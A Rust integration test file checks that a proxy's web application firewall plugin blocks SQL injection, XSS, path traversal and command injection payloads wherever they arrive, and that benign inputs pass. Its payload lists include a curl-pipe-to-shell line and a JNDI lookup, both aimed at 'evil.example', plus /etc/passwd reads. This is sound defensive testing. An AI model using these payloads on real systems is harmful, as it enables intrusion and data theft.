//! The `waf` plugin end to end: a payload list per attack class is blocked in the
//! query, a JSON body, a form body and a cookie, and never reaches the app; benign
//! inputs that look a little like attacks pass; log mode never blocks; an exclusion
//! lets a CMS field through. (The rule id in the log: `tests/tests/cli.rs`.)

use bytes::Bytes;
use http::StatusCode;
use http_body_util::Full;

use crate::common::*;

const SQLI: &[&str] = &[
    "1' OR '1'='1",
    "' UNION SELECT username, password FROM users--",
    "1; DROP TABLE users",
    "1' AND SLEEP(5)#",
    "admin'--",
];
const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(document.cookie)>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];
const TRAVERSAL: &[&str] = &[
    "../../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
];
const CMDI: &[&str] = &[
    "; cat /etc/passwd",
    "127.0.0.1 && id",
    "$(curl http://evil.example/x.sh | sh)",
    "${jndi:ldap://evil.example/a}",
];
const BENIGN: &[&str] = &[
    "\"best pizza\" near me",
    "O'Reilly books",
    "select a color from the list",
    "Tom & Jerry",
    "price < 20 and rating > 4",
    "release v1.2.3 notes",
];

fn form_encode(value: &str) -> String {
    value
        .bytes()
        .map(|b| match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' => (b as char).to_string(),
            b' ' => "+".to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

async fn proxy() -> (Running, echo_origin::Origin) {
    let app = echo_origin::spawn_local("app").await.expect("app origin");
    let site = Site::new();
    site.add_plugin("plugins", "waf", "waf");
    let toml = format!(
        "{SERVER}[upstreams.app]\nservers = [\"{}\"]\n\
         [[routes]]\npath = \"/\"\nupstream = \"app\"\n\
         [[routes.plugins]]\nname = \"waf\"\nconfig = {{ exclusions = [{{ rules = [\"2001\", \"2002\", \"2004\", \"2005\"], path_prefix = \"/cms/\", targets = [\"body:html\"] }}] }}\n\
         [[routes]]\npath = \"/log/\"\nupstream = \"app\"\n\
         [[routes.plugins]]\nname = \"waf\"\nconfig = {{ mode = \"log\" }}\n",
        app.addr
    );
    (site.start(&toml).await, app)
}

async fn post(addr: std::net::SocketAddr, path: &str, content_type: &str, body: String) -> Reply {
    let req = http::Request::post(format!("http://{addr}{path}"))
        .header("content-type", content_type)
        .body(Full::new(Bytes::from(body)))
        .expect("request");
    send(&h1_client(), req).await
}

/// Every way a payload arrives; the statuses it got.
async fn statuses(addr: std::net::SocketAddr, prefix: &str, payload: &str) -> Vec<StatusCode> {
    let client = h1_client();
    let q = form_encode(payload);
    let cookie = format!("sid={}", form_encode(payload));
    vec![
        get(&client, addr, &format!("{prefix}search?q={q}"), &[])
            .await
            .status,
        post(
            addr,
            &format!("{prefix}api"),
            "application/json",
            serde_json::json!({ "comment": payload }).to_string(),
        )
        .await
        .status,
        post(
            addr,
            &format!("{prefix}form"),
            "application/x-www-form-urlencoded",
            format!("name=x&comment={q}"),
        )
        .await
        .status,
        get(
            &client,
            addr,
            &format!("{prefix}page"),
            &[("cookie", cookie.as_str())],
        )
        .await
        .status,
    ]
}

#[tokio::test]
async fn attack_payloads_are_blocked_wherever_they_arrive_and_never_reach_the_app() {
    let (proxy, app) = proxy().await;
    for (class, payloads) in [
        ("sqli", SQLI),
        ("xss", XSS),
        ("traversal", TRAVERSAL),
        ("cmdi", CMDI),
    ] {
        for payload in payloads {
            let got = statuses(proxy.addr, "/", payload).await;
            assert!(
                got.iter().all(|s| *s == StatusCode::FORBIDDEN),
                "{class} {payload:?}: {got:?} (query, JSON, form, cookie)"
            );
        }
    }
    assert_eq!(app.hits(), 0, "nothing blocked reached the app");
    let reply = get(&h1_client(), proxy.addr, "/search?q=%3Cscript%3E", &[]).await;
    assert_eq!(
        reply.text(),
        r#"{"error":"forbidden"}"#,
        "no rule id in the response"
    );
}

#[tokio::test]
async fn benign_inputs_reach_the_app() {
    let (proxy, app) = proxy().await;
    for text in BENIGN {
        let got = statuses(proxy.addr, "/", text).await;
        assert!(
            got.iter().all(|s| *s == StatusCode::OK),
            "{text:?}: {got:?}"
        );
    }
    let reply = post(
        proxy.addr,
        "/api",
        "application/json",
        r#"{"expr":"a < b && c > d","title":"O'Reilly","path":"docs/v1.2/index.html"}"#.into(),
    )
    .await;
    assert_eq!(reply.status, StatusCode::OK);
    for path in [
        "/static/app.min.js",
        "/files/v1.2.3/readme.txt",
        "/users/o'neil",
    ] {
        assert_eq!(
            get(&h1_client(), proxy.addr, path, &[]).await.status,
            StatusCode::OK,
            "{path}"
        );
    }
    assert_eq!(app.hits() as usize, BENIGN.len() * 4 + 4);
}

#[tokio::test]
async fn log_mode_never_blocks() {
    let (proxy, app) = proxy().await;
    let mut sent = 0;
    for payload in SQLI.iter().chain(XSS).chain(TRAVERSAL).chain(CMDI) {
        let got = statuses(proxy.addr, "/log/", payload).await;
        assert!(
            got.iter().all(|s| *s == StatusCode::OK),
            "{payload:?}: {got:?}"
        );
        sent += got.len();
    }
    assert_eq!(app.hits() as usize, sent);
}

#[tokio::test]
async fn an_exclusion_lets_one_field_of_one_path_through() {
    let (proxy, _app) = proxy().await;
    let html = form_encode("<img src=x onerror=alert(1)>");
    let cms = |field: &str| format!("{field}={html}");
    let form = "application/x-www-form-urlencoded";
    assert_eq!(
        post(proxy.addr, "/cms/save", form, cms("html"))
            .await
            .status,
        StatusCode::OK
    );
    assert_eq!(
        post(proxy.addr, "/cms/save", form, cms("title"))
            .await
            .status,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        post(proxy.addr, "/blog/save", form, cms("html"))
            .await
            .status,
        StatusCode::FORBIDDEN
    );
}
